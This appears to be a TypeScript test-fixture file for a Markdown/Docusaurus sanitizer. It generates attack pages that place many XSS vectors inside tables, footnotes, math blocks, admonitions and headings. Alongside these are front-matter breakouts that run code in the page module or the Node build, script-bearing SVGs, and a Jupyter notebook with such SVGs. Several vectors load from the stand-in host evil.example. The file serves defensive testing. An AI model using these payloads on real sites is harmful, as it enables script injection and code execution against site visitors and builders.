/**
 * Hostile content for the sanitizer's tests: vectors (mostly the families of
 * OWASP's XSS filter evasion cheat sheet, plus the constructions that beat
 * the old source scan) placed in the Markdown constructs that used to fool
 * it. Each placed vector carries its own number `n` in what it would do
 * (`alert(n)`, a request to `https://evil.example/n`), so a browser test
 * can say which one ran.
 */

export interface AttackVector {
  name: string;
  /** One line; `{n}` is replaced by the placement's number. */
  html: string;
}

/** Raw HTML an author could write. Every tag is closed, so that one vector cannot swallow the next. */
export const HTML_VECTORS: readonly AttackVector[] = [
  {name: 'script', html: '<script>alert({n})</script>'},
  {name: 'script in capitals with a src', html: '<SCRIPT SRC="https://evil.example/{n}.js"></SCRIPT>'},
  {name: 'script with a slash for a space', html: '<script/xss src="https://evil.example/{n}.js"></script>'},
  {name: 'script split by a script', html: '<scr<script>ipt>alert({n})</scr</script>ipt>'},
  {name: 'script after a double <', html: '<<script>alert({n});//<</script>'},
  {name: 'img onerror', html: '<img src=x onerror=alert({n})>'},
  {name: 'img onerror, no quotes or spaces', html: '<img/src="x"/onerror=alert({n})>'},
  {name: 'img onerror with an encoded handler', html: '<img src=x onerror="&#97;lert({n})">'},
  {name: 'img with a backtick in its title', html: '<img title="`" onerror=alert({n}) alt="`">'},
  {name: 'img with a quote-broken attribute', html: '<img """><script>alert({n})</script>">'},
  {name: 'img src javascript:', html: '<IMG SRC="JaVaScRiPt:alert({n})">'},
  {
    name: 'img src as character references',
    html: '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert({n})>',
  },
  {name: 'svg onload', html: '<svg onload=alert({n})></svg>'},
  {name: 'svg with a script', html: '<svg><script>alert({n})</script></svg>'},
  {name: 'svg animate onbegin', html: '<svg><animate onbegin=alert({n}) attributeName=x dur=1s></animate></svg>'},
  {
    name: 'svg link to javascript:',
    html: '<svg><a xlink:href="javascript:alert({n})"><text x=20 y=20>x</text></a></svg>',
  },
  {name: 'svg image from another host', html: '<svg><image href="https://evil.example/{n}.png"></image></svg>'},
  {
    name: 'mathml link to javascript:',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert({n})">x</maction></math>',
  },
  {name: 'body onload', html: '<body onload=alert({n})></body>'},
  {name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert({n})>'},
  {name: 'select autofocus onfocus', html: '<select autofocus onfocus=alert({n})></select>'},
  {name: 'textarea autofocus onfocus', html: '<textarea autofocus onfocus=alert({n})></textarea>'},
  {name: 'video source onerror', html: '<video><source onerror="alert({n})"></video>'},
  {name: 'audio onerror', html: '<audio src=x onerror=alert({n})></audio>'},
  {name: 'details ontoggle', html: '<details open ontoggle=alert({n})><summary>s</summary>d</details>'},
  {name: 'marquee onstart', html: '<marquee onstart=alert({n})>m</marquee>'},
  {name: 'div onmouseover', html: '<div onmouseover="alert({n})">hover</div>'},
  {name: 'span onpointerenter', html: '<span onpointerenter=alert({n})>point</span>'},
  {name: 'a href javascript:', html: '<a href="javascript:alert({n})">x</a>'},
  {name: 'a href javascript: with a leading space', html: '<a href=" javascript:alert({n})">x</a>'},
  {name: 'a href javascript: with a tab inside', html: '<a href="jav&#x09;ascript:alert({n})">x</a>'},
  {name: 'a href javascript&colon;', html: '<a href="javascript&colon;alert({n})">x</a>'},
  {name: 'a href hex-encoded javascript:', html: '<a href="&#x6A;avascript:alert({n})">x</a>'},
  {name: 'a href vbscript:', html: '<a href="vbscript:msgbox({n})">x</a>'},
  {name: 'a href data: page', html: '<a href="data:text/html,&lt;script&gt;alert({n})&lt;/script&gt;">x</a>'},
  {name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert({n})&lt;/script&gt;"></iframe>'},
  {name: 'iframe src javascript:', html: '<iframe src="javascript:alert({n})"></iframe>'},
  {name: 'iframe from another host', html: '<iframe src="https://evil.example/{n}"></iframe>'},
  {name: 'object data: page', html: '<object data="data:text/html,&lt;script&gt;alert({n})&lt;/script&gt;"></object>'},
  {name: 'embed data: page', html: '<embed src="data:text/html,&lt;script&gt;alert({n})&lt;/script&gt;">'},
  {name: 'base href', html: '<base href="https://evil.example/{n}/">'},
  {name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">'},
  {name: 'link stylesheet from another host', html: '<link rel="stylesheet" href="https://evil.example/{n}.css">'},
  {name: 'style importing from another host', html: '<style>@import url("https://evil.example/{n}.css");</style>'},
  {
    name: 'style attribute loading a background',
    html: '<div style="background:url(https://evil.example/{n}.png)">bg</div>',
  },
  {name: 'img from another host', html: '<img src="https://evil.example/{n}.png">'},
  {name: 'img protocol-relative', html: '<img src="//evil.example/{n}.png">'},
  {name: 'img slash-backslash', html: '<img src="/\\evil.example/{n}.png">'},
  {name: 'img srcset from another host', html: '<img srcset="https://evil.example/{n}.png 1x">'},
  {
    name: 'picture source from another host',
    html: '<picture><source srcset="https://evil.example/{n}.png"><img src="/img/logo.svg"></picture>',
  },
  {name: 'video poster from another host', html: '<video poster="https://evil.example/{n}.png"></video>'},
  {name: 'input image from another host', html: '<input type="image" src="https://evil.example/{n}.png">'},
  {name: 'form posting to javascript:', html: '<form action="javascript:alert({n})"><button>go</button></form>'},
  {name: 'button formaction', html: '<form><button formaction="javascript:alert({n})">go</button></form>'},
  {name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert({n})>"></p></noscript>'},
  {name: 'svg style mutation', html: '<svg><style><img src=x onerror=alert({n})></style></svg>'},
  {name: 'template holding a handler', html: '<template><img src=x onerror=alert({n})></template>'},
  {name: 'frameset onload', html: '<frameset onload=alert({n})></frameset>'},
  {name: 'a handler named in capitals', html: '<b ONCLICK="alert({n})" id="c{n}">click</b>'},
];

/** Link destinations an author could write in Markdown links, images and definitions. */
export const URL_VECTORS: readonly AttackVector[] = [
  {name: 'Markdown link to javascript:', html: 'javascript:alert({n})'},
  {name: 'Markdown link to encoded javascript:', html: 'jav&#x61;script&colon;alert({n})'},
  {name: 'Markdown link to JAVASCRIPT: with an escape', html: 'JAVASCRIPT\\:alert({n})'},
  {name: 'Markdown link to vbscript:', html: 'vbscript:msgbox({n})'},
  {name: 'Markdown link to a data: page', html: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='},
];

/** Images by Markdown syntax: what matters is where they load from. */
export const IMAGE_VECTORS: readonly AttackVector[] = [
  {name: 'Markdown image from another host', html: 'https://evil.example/{n}.png'},
  {name: 'Markdown image protocol-relative', html: '//evil.example/{n}.png'},
  {name: 'Markdown image javascript:', html: 'javascript:alert({n})'},
];

export interface Placement {
  /** The Markdown the vector goes through. */
  context: string;
  vector: string;
  n: number;
  file: string;
  /** 1-based line where check reports the vector: its own, or for a definition the link that uses it. */
  line: number;
}

interface Context {
  name: string;
  /** Markdown holding `payload`; `{n}` for unique labels. The payload is always on one line of the result. */
  wrap: (payload: string, n: number) => string;
  /** Whether a URL vector is written as a definition rather than inline. */
  definition?: boolean;
  /** Whether the file starts with an empty front matter instead of a title. */
  emptyFrontMatter?: boolean;
}

const inTable = (payload: string) => `| a | b |\n| - | - |\n| \`x | ${payload.replaceAll('|', '\\|')} |`;

/** The constructions the old scan misread, and the containers a vector may hide in. */
export const CONTEXTS: readonly Context[] = [
  {name: 'paragraph', wrap: (p) => p},
  {name: 'table cell after an open backtick', wrap: (p) => inTable(p)},
  {
    name: "after a footnote's indented block",
    wrap: (p, n) => `Note[^f${n}].\n\n[^f${n}]: A note.\n\n    Its indented part.\n\n${p}`,
  },
  {name: 'after a $$ block holding a fence', wrap: (p) => `$$\n\`\`\`\nx\n$$\n\n${p}`},
  {name: 'between inline math holding backticks', wrap: (p) => `$a\`$ ${p} $\`b$`},
  {name: 'after an admonition holding a fence', wrap: (p) => `:::note\n\`\`\`\n:::\n\n${p}`},
  {name: 'inside an admonition', wrap: (p) => `:::tip[Careful]\n\n${p}\n\n:::`},
  {name: 'list item', wrap: (p) => `- item\n- ${p}`},
  {name: 'block quote', wrap: (p) => `> quoted\n>\n> ${p}`},
  // Docusaurus writes a heading's raw HTML, unparsed, into the table of contents (toc export).
  {name: 'heading, and so the table of contents', wrap: (p) => `### Heading ${p}`},
  {name: 'file with an empty front matter', wrap: (p) => p, emptyFrontMatter: true},
  {name: 'definition inside a list', wrap: (p, n) => `- [x][r${n}]\n\n  [r${n}]: ${p}`, definition: true},
  {name: 'definition inside a quote', wrap: (p, n) => `> [x][r${n}]\n>\n> [r${n}]: ${p}`, definition: true},
];

/** A file per context holding every vector, under `folder`; and where each one landed. */
export function attackFiles(folder: string): {files: Record<string, string>; placements: Placement[]} {
  const files: Record<string, string> = {};
  const placements: Placement[] = [];
  CONTEXTS.forEach((context, c) => {
    const file = `${folder}/attack-${String(c + 1).padStart(2, '0')}.md`;
    let text = context.emptyFrontMatter ? '---\n---\n\n# Attacks\n' : `---\ntitle: "Attacks ${c + 1}"\n---\n`;
    const add = (vector: AttackVector, v: number, markdown: (payload: string) => string) => {
      const n = (c + 1) * 1000 + v;
      const payload = markdown(vector.html.replaceAll('{n}', String(n)));
      const block = context.wrap(payload, n);
      const before = `${text}\n## Vector ${n}\n\n`;
      const payloadAt = before.length + (context.definition ? 0 : block.indexOf(payload));
      placements.push({context: context.name, vector: vector.name, n, file, line: lineAt(before + block, payloadAt)});
      text = `${before}${block}\n`;
    };
    if (!context.definition) HTML_VECTORS.forEach((vector, v) => add(vector, v, (html) => html));
    URL_VECTORS.forEach((vector, v) =>
      add(vector, 100 + v, (url) => (context.definition ? url : `[click ${vector.name}](${url})`)),
    );
    if (!context.definition)
      IMAGE_VECTORS.forEach((vector, v) => add(vector, 200 + v, (url) => `![${vector.name}](${url})`));
    files[file] = text;
  });
  return {files, placements};
}

function lineAt(text: string, offset: number): number {
  return text.slice(0, offset).split('\n').length;
}

/** Pages that must keep rendering as they do: none of them may be reported. */
export const BENIGN_FILES: Readonly<Record<string, string>> = {
  'docs/notes/benign-math.md': `---
title: Math
---

Inline $a < b$ and $x^2 \\le y$, and a block:

$$
\\operatorname{softmax}(z)_j = \\frac{e^{z_j}}{\\sum_k e^{z_k}}
$$
`,
  'docs/notes/benign-markup.md': `---
title: Markup
---

## A heading {#custom-id}

| left | center | right |
| :--- | :----: | ----: |
| 1    | \`<b>\`  | 3     |

- [x] done
- [ ] to do

A footnote[^1] and ~~struck~~ text, <kbd>Ctrl</kbd>, <sub>sub</sub>, <sup>sup</sup>, H<sub>2</sub>O.

<details>
<summary>More</summary>

Hidden <b>bold</b> text.

</details>

<!-- a comment with <script>alert(1)</script> in it -->

:::note[Heads up]
An admonition with **bold**.
:::

> A quote with [a link](https://example.org/page) and <a href="mailto:me@example.org">mail</a>.

![Logo](/img/logo.svg)

<img src="/img/logo.svg" alt="logo" width="40">

[^1]: The footnote.
`,
  'docs/notes/benign-code.md': `---
title: Code
---

\`\`\`html title="page.html"
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
\`\`\`

Inline \`<script>alert(1)</script>\` and \`[x](javascript:alert(1))\`.

    <iframe srcdoc="&lt;script&gt;"></iframe>

Escaped: &lt;script&gt;alert(1)&lt;/script&gt; and \\<script>.
`,
};

/**
 * Front matter and a first heading that closed their string in the page's
 * JavaScript module (mdx-loader wrote them with stringify-object 3.3.0).
 * Each would show a dialog `alert(n)` in the browser, or write the file
 * `ran-<n>.txt` into the site folder when the build renders the page in Node.
 */
export const PAGE_MODULE_BREAKOUTS: Readonly<Record<string, string>> = (() => {
  const inBrowser = (n: number) => `\\\\''+globalThis.alert?.("${n}-"+document.domain)//`;
  const inBuild = (n: number) =>
    `\\\\''+globalThis.process?.getBuiltinModule?.("fs").writeFileSync("ran-${n}.txt", "pid "+process.pid)//`;
  return {
    'docs/notes/front-matter-breakout.md': `---\ntitle: Breakout\nzz: '${inBrowser(9501)}'\nnode: '${inBuild(9502)}'\n---\n\nText.\n`,
    'docs/notes/heading-breakout.md': `# \\\\\\\\'+globalThis.alert?.("9503")//\n\nText.\n`,
    'docs/notes/unicode-escape.md': `---\ntitle: Unicode escape\ndemo: "https:\\\\\\\\evil.example\\\\url10"\n---\n\nText.\n`,
  };
})();

/** What an author may type, and must see on the page exactly: backslashes, quotes, `\u`, `\n` as text, separators. */
export const EXACT_TEXT = {
  title: 'C:\\new \\d+ \\u00e9 it\'s "quoted" \\\\\' end',
  description: "Matches \\w+ and \\\\, quote ' and \u2028 separator \u2029 end",
  keywords: ["\\'", '\\u{41}', 'a\\nb'],
};

/** Its note: the values as YAML double-quoted strings (JSON is valid YAML 1.2). */
export const EXACT_TEXT_NOTE = [
  '---',
  `title: ${JSON.stringify(EXACT_TEXT.title)}`,
  `description: ${JSON.stringify(EXACT_TEXT.description)
    .replace(/\u2028/g, '\\u2028')
    .replace(/\u2029/g, '\\u2029')}`,
  `keywords: ${JSON.stringify(EXACT_TEXT.keywords)}`,
  '---',
  '',
  'Text.',
  '',
].join('\n');

/** SVG that runs script when its URL is opened: a handler, a script, HTML in foreignObject, an off-site image. */
export function activeSvg(n: number): string {
  return [
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="alert(${n})">`,
    `<script>alert(${n + 1})</script>`,
    `<foreignObject width="120" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(${n + 2})"/></body></foreignObject>`,
    `<image href="https://evil.example/${n + 3}.png" width="10" height="10"/>`,
    // A width of its own: the sanitized pictures differ, so each is a file of its own.
    `<a xlink:href="javascript:alert(${n + 4})"><rect width="${n % 100}" height="60" fill="#3366cc"/></a>`,
    `<animate attributeName="x" dur="1s" onbegin="alert(${n + 5})"/>`,
    `</svg>`,
  ].join('');
}

/**
 * A notebook whose saved SVGs would run script when their files are opened:
 * an `image/svg+xml` output, a Plotly output's SVG fallback, and a markdown
 * cell's pasted SVG attachment.
 */
export function activeSvgNotebook(): string {
  const code = (source: string, data: Record<string, unknown>, count: number) => ({
    cell_type: 'code',
    execution_count: count,
    id: `cell-${count}`,
    metadata: {},
    source: [source],
    outputs: [{output_type: 'display_data', data: {'text/plain': ['<figure>'], ...data}, metadata: {}}],
  });
  const notebook = {
    cells: [
      {cell_type: 'markdown', id: 'title', metadata: {}, source: ['# Active SVG outputs']},
      code('display(SVG(evil))', {'image/svg+xml': activeSvg(9600)}, 1),
      code(
        'fig.show()',
        {'application/vnd.plotly.v1+json': {data: [], layout: {}}, 'image/svg+xml': activeSvg(9610)},
        2,
      ),
      {
        cell_type: 'markdown',
        id: 'attachment',
        metadata: {},
        source: ['A pasted picture:\n', '\n', '![pasted](attachment:evil.svg)'],
        attachments: {'evil.svg': {'image/svg+xml': activeSvg(9620)}},
      },
    ],
    metadata: {
      kernelspec: {display_name: 'Python 3', language: 'python', name: 'python3'},
      language_info: {name: 'python'},
    },
    nbformat: 4,
    nbformat_minor: 5,
  };
  return `${JSON.stringify(notebook, null, 1)}\n`;
}
